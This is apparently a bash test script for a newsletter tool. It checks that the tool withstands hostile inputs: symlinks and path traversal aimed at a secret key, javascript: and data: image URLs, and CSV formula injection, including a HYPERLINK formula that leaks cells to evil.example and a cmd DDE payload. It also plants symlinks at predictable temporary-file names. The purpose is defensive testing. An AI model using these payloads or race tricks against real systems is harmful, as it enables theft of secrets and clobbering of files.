#!/bin/bash
# t_trust.sh - the trust boundaries (issue 12). What a content contributor
# (a pull request on the site) or a stranger (a name typed into a form) can
# reach: content never reads outside the site, the personal token slot
# cannot be captured, CSV exports open safely in a spreadsheet, and files
# are created as a careful Unix tool creates them, even in a folder another
# local user can write. The attackers' inputs are in tests/fixtures/trust.
. "$(dirname "$0")/lib.sh"
export SOURCE_DATE_EPOCH=${SOURCE_DATE_EPOCH:-1780000000}
FIX=$ROOT/tests/fixtures/trust

# no_bytes NAME NEEDLEFILE MESSAGE...: no part of any message (raw or
# decoded) holds the needle's bytes, and each parses without defects.
no_bytes() {
	local name=$1 needle=$2 out
	shift 2
	if out=$($PY - "$needle" "$@" 2>&1 <<'PY'
import email, email.policy, sys
needle = open(sys.argv[1], "rb").read().strip()
assert needle, "empty needle"
for path in sys.argv[2:]:
    raw = open(path, "rb").read()
    if needle in raw:
        sys.exit("%s: raw bytes hold the needle" % path)
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    for part in msg.walk():
        if part.defects:
            sys.exit("%s: defects %r" % (path, part.defects))
        if part.is_multipart():
            continue
        body = part.get_payload(decode=True) or b""
        if needle in body:
            sys.exit("%s: a %s part holds the needle" % (path, part.get_content_type()))
PY
	); then ok "$name"; else fail "$name" "$out"; fi
}

# image_parts MESSAGE: how many image/* parts it has
image_parts() {
	$PY - "$1" <<'PY'
import email, email.policy, sys
msg = email.message_from_bytes(open(sys.argv[1], "rb").read(), policy=email.policy.default)
print(sum(1 for p in msg.walk() if p.get_content_maintype() == "image"))
PY
}

# --- a repository whose site holds the attackers' pull request --------------
R=$TMP/repo
mkdir -p "$R/private" "$R/issues"
cp -R "$FIX/site" "$R/site"
cp -R "$FIX/issues/." "$R/issues/"
cat > "$R/infolettre.yaml" <<EOF
newsletter:
  title: "Infolettre de test"
  from: "Test <news@example.org>"
  list_id: "test.example.org"
  language: fr
  timezone: Europe/Paris
site:
  root: "site"
  base_url: "https://example.org/"
  posts: ["blog"]
  events: []
unsubscribe:
  url: "https://example.org/unsubscribe"
  mailto: "unsubscribe@example.org"
transport:
  url: "maildir:outbox"
subscribers:
  database: "subscribers/subscribers.db"
  secret_file: "subscribers/secret.key"
issues: "issues"
templates: "$ROOT/templates"
EOF
il() { "$INFOLETTRE" -c "$R/infolettre.yaml" "$@"; }
il subscribers add alice@example.org --name "Alice" > /dev/null
il subscribers add bob@example.org --name "Bob" > /dev/null
SECRET=$R/subscribers/secret.key
[ -s "$SECRET" ] || fail "setup" "no secret file"
# the victim's files outside the site: a real PNG with a marker in it
$PY - "$R/private/outside.png" "$TMP/outside.marker" <<'PY'
import struct, sys, zlib
marker = b"OUTSIDE-THE-SITE-7f3a9c"
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
       + chunk(b"tEXt", b"Comment\0" + marker)
       + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))
open(sys.argv[1], "wb").write(png)
open(sys.argv[2], "wb").write(marker + b"\n")
PY
cp "$FIX/private-post.md" "$R/private/post.md"
# what the pull request carries as symbolic links
ln -s ../../../subscribers/secret.key "$R/site/blog/symlink-image/cover.png"
ln -s ../subscribers/secret.key "$R/site/leak.png"
ln -s ../subscribers/secret.key "$R/site/leak.pdf"
ln -s ../../subscribers/secret.key "$R/issues/2030-09/evil.png"
sed -i "s|@PRIVATE@|$R/private|" "$R/site/blog/absolute-image/index.md"
cp "$ROOT/tests/site/blog/2026-06-parquet/featured.png" "$R/issues/2030-09/photo.png"
for m in 2030-01 2030-02 2030-03 2030-04 2030-05 2030-06 2030-07 2030-08 2030-12 2031-01 2031-02; do
	il new "$m" > /dev/null 2>&1
	# an editorial of its own: the stub that new writes is a lint warning
	sed -i "s/^Écrivez ici l'éditorial du mois\.$/Les nouvelles du mois./" "$R/issues/$m/issue.md"
done

# compose_month NAME MONTH: compose; stderr in $TMP/err.MONTH
compose_month() {
	expect_status "$1" 0 il compose "$2"
	cp "$TMP/err" "$TMP/err.$2"
}
outputs() { echo "$R/issues/$1/"{newsletter.html,newsletter.txt,web.html}; }

# --- front matter image: a symlink to the secret ----------------------------
compose_month "symlinked image: compose" 2030-01
no_bytes "symlinked image: the secret is not in newsletter.eml" "$SECRET" \
	"$R/issues/2030-01/newsletter.eml"
expect "symlinked image: no image part" 0 "$(image_parts "$R/issues/2030-01/newsletter.eml")"
expect_grep "symlinked image: one warning naming file and line" \
	'blog/symlink-image/index.md:4:[0-9]+: image "cover.png" leaves the site' "$TMP/err.2030-01"
expect "symlinked image: exactly one warning" 1 "$(grep -c 'cover.png' "$TMP/err.2030-01")"
expect_nogrep "symlinked image: no thumbnail in the preview" 'cover\.png' $(outputs 2030-01)
rm -rf "$R/outbox"
expect_status "symlinked image: send" 0 il send 2030-01
expect "symlinked image: two messages sent" 2 "$(ls "$R/outbox/new" 2>/dev/null | wc -l)"
no_bytes "symlinked image: the secret is in no message sent" "$SECRET" "$R/outbox/new/"*

# --- front matter image: ../ out of the site, and an absolute path ----------
compose_month "../ image: compose" 2030-02
no_bytes "../ image: the outside file is not in newsletter.eml" "$TMP/outside.marker" \
	"$R/issues/2030-02/newsletter.eml"
expect "../ image: no image part" 0 "$(image_parts "$R/issues/2030-02/newsletter.eml")"
expect_grep "../ image: one warning naming file and line" \
	'blog/dotdot-image/index.md:4:[0-9]+: image "\.\./\.\./\.\./private/outside\.png" leaves the site' \
	"$TMP/err.2030-02"
expect_nogrep "../ image: no thumbnail" 'outside\.png' $(outputs 2030-02)
compose_month "absolute image: compose" 2030-03
no_bytes "absolute image: the outside file is not in newsletter.eml" "$TMP/outside.marker" \
	"$R/issues/2030-03/newsletter.eml"
expect "absolute image: no image part" 0 "$(image_parts "$R/issues/2030-03/newsletter.eml")"
# an absolute path is the site's (Hugo's static/), never the machine's
expect_grep "absolute image: a URL under the site" \
	"src=\"https://example.org${R//./\\.}/private/outside\\.png\"" "$R/issues/2030-03/newsletter.html"
rm -rf "$R/outbox"
expect_status "../ image: send" 0 il send 2030-02
no_bytes "../ image: the outside file is in no message sent" "$TMP/outside.marker" "$R/outbox/new/"*

# --- front matter image: javascript:, data:, vbscript:, file: ----------------
compose_month "unsafe image URLs: compose" 2030-04
for f in $(outputs 2030-04) "$R/issues/2030-04/newsletter.eml"; do
	expect_nogrep "unsafe image URLs: none in $(basename "$f")" \
		'[Jj]ava|[Vv][Bb][Ss]cript|data:image|file:|alert|msgbox' "$f"
done
for p in unsafe-1 unsafe-2 unsafe-3 unsafe-4 unsafe-5; do
	expect_grep "unsafe image URL $p: warning naming file and line" \
		"blog/$p/index.md:4:[0-9]+: image .* is not a URL an image may have" "$TMP/err.2030-04"
done
expect "unsafe image URLs: one warning each" 5 "$(grep -c 'is not a URL an image may have' "$TMP/err.2030-04")"
expect "unsafe image URLs: no thumbnail" 0 "$(grep -c '<img' "$R/issues/2030-04/web.html")"

# --- an image URL that would close its attribute: escaped in every template
compose_month "image URL with quotes: compose" 2031-02
for f in "$R/issues/2031-02/newsletter.html" "$R/issues/2031-02/web.html"; do
	expect_nogrep "image URL with quotes: escaped in $(basename "$f")" \
		'onerror="|<script|<b>' "$f"
done
expect_grep "image URL with quotes: kept as an image" \
	'<img src="https://cdn\.example\.org/a\.png(%22|&#34;|&quot;)' "$R/issues/2031-02/newsletter.html"

# --- an image whose bytes are not what its name says ------------------------
compose_month "fake PNG: compose" 2030-05
expect "fake PNG: no image part" 0 "$(image_parts "$R/issues/2030-05/newsletter.eml")"
expect_grep "fake PNG: one warning naming file and line" \
	'blog/fake-png/index.md:4:[0-9]+: image "cover.png" is not a PNG, JPEG, GIF or WebP' "$TMP/err.2030-05"

# --- a real image is still embedded (the checks do not refuse honest content)
compose_month "honest image: compose" 2030-12
expect "honest image: one image part" 1 "$(image_parts "$R/issues/2030-12/newsletter.eml")"
expect "honest image: no warning" "" "$(cat "$TMP/err.2030-12")"

# --- the editorial's images: the issue's folder, then the site --------------
compose_month "editorial images: compose" 2030-09
no_bytes "editorial images: the secret is not in newsletter.eml" "$SECRET" \
	"$R/issues/2030-09/newsletter.eml"
expect_grep "editorial image symlinked out of the site: warning" \
	'issues/2030-09/issue.md:9: image "leak.png" leaves the site' "$TMP/err.2030-09"
expect_grep "editorial image symlinked out of the issue: warning" \
	'issues/2030-09/issue.md:11: image "evil.png" leaves the site' "$TMP/err.2030-09"
expect_grep "editorial link to a file out of the site: warning" \
	'issues/2030-09/issue.md:17: link "leak.pdf" leaves the site' "$TMP/err.2030-09"
expect "editorial images: the two honest ones embedded" 2 \
	"$(image_parts "$R/issues/2030-09/newsletter.eml")"
expect_nogrep "editorial images: the refused ones left out" 'leak\.png|evil\.png|leak\.pdf' \
	$(outputs 2030-09)

# --- a content file that is a symlink out of the site -----------------------
ln -s ../../private/post.md "$R/site/blog/outside-post.md"
expect_status "content file symlinked out of the site: collect" 0 il collect 2031-01
expect "content file symlinked out of the site: not collected" "" "$(cat "$TMP/out")"
expect_grep "content file symlinked out of the site: warning" \
	'blog/outside-post.md: .*leaves the site' "$TMP/err"
rm "$R/site/blog/outside-post.md"

# --- the token slot: content that holds the slot text is refused ------------
for spec in "2030-06 slot-old old slot" "2030-07 slot-new new slot" \
    "2030-08 slot-entity slot as an HTML entity"; do
	set -- $spec
	m=$1 p=$2
	shift 2
	what=$*
	expect_status "$what in a description: compose refused" 65 il compose "$m"
	expect_grep "$what: the error names the file" \
		"^infolettre: .*blog/$p/index.md(:[0-9]+:[0-9]+)?: .*TOKENSLOT" "$TMP/err"
	rm -rf "$R/outbox"
	expect_status "$what: send refused" 65 il send "$m"
	expect "$what: nothing sent" 0 "$(ls "$R/outbox/new" 2>/dev/null | wc -l)"
	grep -rl 'tracker\.example' "$R/outbox" > "$TMP/captured" 2>/dev/null
	expect "$what: no token captured" "" "$(cat "$TMP/captured")"
done
expect_status "slot in the editorial: compose refused" 65 il compose 2030-10
expect_grep "slot in the editorial: the error names issue.md and line" \
	'^infolettre: .*issues/2030-10/issue.md:9:[0-9]+: .*TOKENSLOT' "$TMP/err"
expect_status "slot in the subject: compose refused" 65 il compose 2030-11
expect_grep "slot in the subject: the error names issue.md and line" \
	'^infolettre: .*issues/2030-11/issue.md:3:[0-9]+: .*TOKENSLOT' "$TMP/err"
# the slot never reaches a file: every output holds the sample's token
for f in $(outputs 2030-12) "$R/issues/2030-12/newsletter.eml"; do
	expect_nogrep "no slot text in $(basename "$f")" 'TOKENSLOT' "$f"
done

# --- CSV export opens safely in a spreadsheet; import gives the names back --
C=$TMP/csv
mkdir -p "$C"
sed -e "s|^  database: .*|  database: \"$C/a.db\"|" \
	-e "s|^  secret_file: .*|  secret_file: \"$C/secret.key\"|" "$R/infolettre.yaml" > "$C/a.yaml"
sed -e "s|/a.db\"|/b.db\"|" "$C/a.yaml" > "$C/b.yaml"
ca() { "$INFOLETTRE" -c "$C/a.yaml" "$@"; }
cb() { "$INFOLETTRE" -c "$C/b.yaml" "$@"; }
expect_status "CSV injection: import the attackers' names" 0 ca subscribers import "$FIX/injection.csv"
expect_status "CSV injection: a name starting with a quote" 0 \
	ca subscribers add quoted@example.org --name "'=already quoted" --source "=cmd|' /C calc'!A0"
expect_status "CSV injection: export" 0 ca subscribers export "$C/out.csv"
$PY - "$C/out.csv" > "$C/cells" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
for r in rows[1:]:
    for cell in r:
        print(cell)
PY
expect "CSV injection: no cell starts with = + - @ tab or CR" "" \
	"$(grep -E $'^[-=+@\t\r]' "$C/cells")"
expect_grep "CSV injection: =HYPERLINK prefixed with a quote" \
	"^'=HYPERLINK\\(\"https://evil.example/\\?leak=\"&A1,\"Cliquez ici\"\\)$" "$C/cells"
expect_grep "CSV injection: an address starting with = prefixed" "^'=1\\+1@example.org$" "$C/cells"
expect_grep "CSV injection: the source column too" "^'=cmd" "$C/cells"
expect_grep "CSV injection: a name that starts with a quote keeps it" "^''=already quoted$" "$C/cells"
expect_status "CSV injection: the export imports back" 0 cb subscribers import "$C/out.csv"
ca subscribers list | cut -f1-3 | sort > "$C/a.list"
cb subscribers list | cut -f1-3 | sort > "$C/b.list"
expect_same "CSV injection: the same addresses and names after the round trip" "$C/a.list" "$C/b.list"
expect_grep "CSV injection: =HYPERLINK name as it was typed" \
	$'^hyperlink@example.org\t=HYPERLINK\\(' "$C/b.list"
expect_grep "CSV injection: quoted name as it was typed" \
	$'^quoted@example.org\t\'=already quoted\t' "$C/b.list"

# --- secrets: wiped from memory, in no error line, in no core file ----------
S=$TMP/secrets
mkdir -p "$S/subs"
sed -e "s|^  database: .*|  database: \"$S/subs/subscribers.db\"|" \
	-e "s|^  secret_file: .*|  secret_file: \"$S/subs/secret.key\"|" \
	-e "s|^  root: .*|  root: \"$R/site\"|" -e "s|^issues: .*|issues: \"$R/issues\"|" \
	"$R/infolettre.yaml" > "$S/c.yaml"
printf 'shortsecret1\n' > "$S/subs/secret.key"
chmod 600 "$S/subs/secret.key"
expect_status "a secret too short: refused" 78 "$INFOLETTRE" -c "$S/c.yaml" subscribers list
expect_nogrep "a secret too short: not in the error" 'shortsecret1' "$TMP/err"
rm "$S/subs/secret.key"
printf 'hunter2-first-line\nhunter2-second-line\n' > "$S/pw"
chmod 600 "$S/pw"
sed -e 's|^  url: "maildir:outbox"|  url: "smtp://127.0.0.1:1"\n  username: "u"\n  password_file: "'"$S/pw"'"|' \
	"$S/c.yaml" > "$S/pw.yaml"
expect_status "a password file of two lines: refused" 78 "$INFOLETTRE" -c "$S/pw.yaml" send 2030-12 --to a@example.org
expect_nogrep "a password file of two lines: not in the error" 'hunter2' "$TMP/err"
sed -e 's|^  url: "maildir:outbox"|  url: "smtp://u:hunter2-in-url@127.0.0.1:1"|' "$S/c.yaml" > "$S/url.yaml"
expect_status "a password in transport.url: refused" 78 "$INFOLETTRE" -c "$S/url.yaml" send 2030-12 --to a@example.org
expect_nogrep "a password in transport.url: not in the error" 'hunter2' "$TMP/err"
printf -- '-----BEGIN PRIVATE KEY-----\nNOTAKEYBUTSECRETMATERIAL\n-----END PRIVATE KEY-----\n' > "$S/dkim.key"
chmod 600 "$S/dkim.key"
printf 'dkim:\n  domain: "example.org"\n  selector: "s1"\n  key_file: "%s"\n' "$S/dkim.key" >> "$S/c.yaml"
expect_status "a broken DKIM key: refused" 78 "$INFOLETTRE" -c "$S/c.yaml" dkim check
expect_nogrep "a broken DKIM key: not in the error" 'NOTAKEY' "$TMP/err"
# a crash writes no core file: the process's core size limit is 0 even
# when the shell allows cores
( ulimit -c unlimited 2>/dev/null || ulimit -c "$(ulimit -Hc)"
  sleep 5 | "$INFOLETTRE" -c "$S/c.yaml" subscribers import - > /dev/null 2>&1 ) &
cpid=$!
core=
for i in $(seq 60); do
	p=$(pgrep -n -f "$S/c.yaml subscribers import -")
	# (until main() has run: read again while it says otherwise)
	[ -n "$p" ] && core=$(awk '/^Max core file size/ { print $5 }' "/proc/$p/limits" 2>/dev/null)
	[ "$core" = 0 ] && break
	sleep 0.05
done
wait $cpid
expect "no core file: the core size limit is 0" 0 "$core"
# the secret buffers are wiped with explicit_bzero (memset before free
# can be removed by the compiler)
expect "no memset on secret buffers" "" \
	"$(grep -nE 'memset\([^,]*(secret|passw|pem|want)' "$ROOT"/src/*.c)"

# --- files written in a folder another local user can write -----------------
# The victim runs as nobody; the attacker (root here, any other user in
# life) pre-creates the temporary names the old code used, FILE.tmp.PID, as
# a file of theirs and as a symbolic link to one; the PID is known since
# the victim's process is the shell that runs it (exec keeps the PID).
if [ "$(id -u)" -ne 0 ] || ! command -v setpriv > /dev/null; then
	fail "unprivileged runs" "needs root and setpriv to switch to nobody"
	exit 0
fi
chmod 711 "$TMP"
U=$TMP/victim
mkdir -p "$U/bin" "$U/subscribers" "$U/shared"
cp "$INFOLETTRE" "$U/bin/infolettre"
sed -e "s|^  database: .*|  database: \"$U/subscribers/subscribers.db\"|" \
	-e "s|^  secret_file: .*|  secret_file: \"$U/subscribers/secret.key\"|" \
	-e "s|^  root: .*|  root: \"$U\"|" \
	-e "s|^templates: .*|templates: \"$U\"|" "$R/infolettre.yaml" > "$U/infolettre.yaml"
chown -R nobody:nogroup "$U"
chmod 755 "$U" "$U/bin"
chmod 777 "$U/shared" # a shared folder: anyone may create files in it
AS_NOBODY=(setpriv --reuid=nobody --regid=nogroup --clear-groups)
# victim CMD...: run CMD as nobody after the attacker's preparation in
# $PREP (a shell snippet that sees the victim's PID as $$)
victim() {
	bash -c "$PREP"'; exec "$@"' victim "${AS_NOBODY[@]}" "$U/bin/infolettre" \
		-c "$U/infolettre.yaml" "$@"
}
PREP=':'
expect_status "as nobody: add a subscriber" 0 victim subscribers add carol@example.org --name "Carol"

# a file of the attacker's at the temporary name
touch "$U/shared/bait" && chmod 666 "$U/shared/bait"
bait() { : > "$U/shared/bait"; }
PREP='cp -p "'"$U"'/shared/bait" "'"$U"'/shared/export.csv.tmp.$$"'
expect_status "pre-created temporary file: export" 0 victim subscribers export "$U/shared/export.csv"
expect "pre-created temporary file: the export is the victim's, mode 600" "nobody 600" \
	"$(stat -c '%U %a' "$U/shared/export.csv" 2>&1)"
expect "pre-created temporary file: the attacker's file got nothing" 0 \
	"$(cat "$U"/shared/export.csv.tmp.* "$U/shared/bait" 2>/dev/null | wc -c)"
rm -f "$U"/shared/export.csv*

# a symbolic link at the temporary name, to a file the attacker reads
bait
PREP='ln -s bait "'"$U"'/shared/export.csv.tmp.$$"'
expect_status "symlink at the temporary name: export" 0 victim subscribers export "$U/shared/export.csv"
expect "symlink at the temporary name: the export is a file of the victim's" "regular file nobody 600" \
	"$(stat -c '%F %U %a' "$U/shared/export.csv" 2>&1)"
expect "symlink at the temporary name: nothing written through it" 0 "$(wc -c < "$U/shared/bait")"
expect_grep "symlink at the temporary name: the export is complete" '^carol@example.org,Carol,active' \
	"$U/shared/export.csv"
rm -f "$U"/shared/export.csv*

# a symbolic link at the export's own name is replaced, never followed
bait
ln -s bait "$U/shared/export.csv"
PREP=':'
expect_status "symlink at the export's name: export" 0 victim subscribers export "$U/shared/export.csv"
expect "symlink at the export's name: replaced by the victim's file" "regular file nobody 600" \
	"$(stat -c '%F %U %a' "$U/shared/export.csv" 2>&1)"
expect "symlink at the export's name: nothing written through it" 0 "$(wc -c < "$U/shared/bait")"
rm -f "$U"/shared/export.csv*

# the secret file made in a folder the attacker can write: a symbolic link
# at its temporary name to a file of the victim's would clobber that file
# with the secret
echo "the victim's own notes" > "$U/notes"
chown nobody:nogroup "$U/notes"
rm -f "$U/subscribers/"*
chmod 777 "$U/subscribers"
PREP='ln -s ../notes "'"$U"'/subscribers/secret.key.tmp.$$"'
expect_status "symlink at the secret's temporary name: a new secret" 0 victim subscribers list
expect "symlink at the secret's temporary name: the secret is a file of the victim's" \
	"regular file nobody 600" "$(stat -c '%F %U %a' "$U/subscribers/secret.key" 2>&1)"
expect "symlink at the secret's temporary name: nothing written through it" \
	"the victim's own notes" "$(cat "$U/notes")"
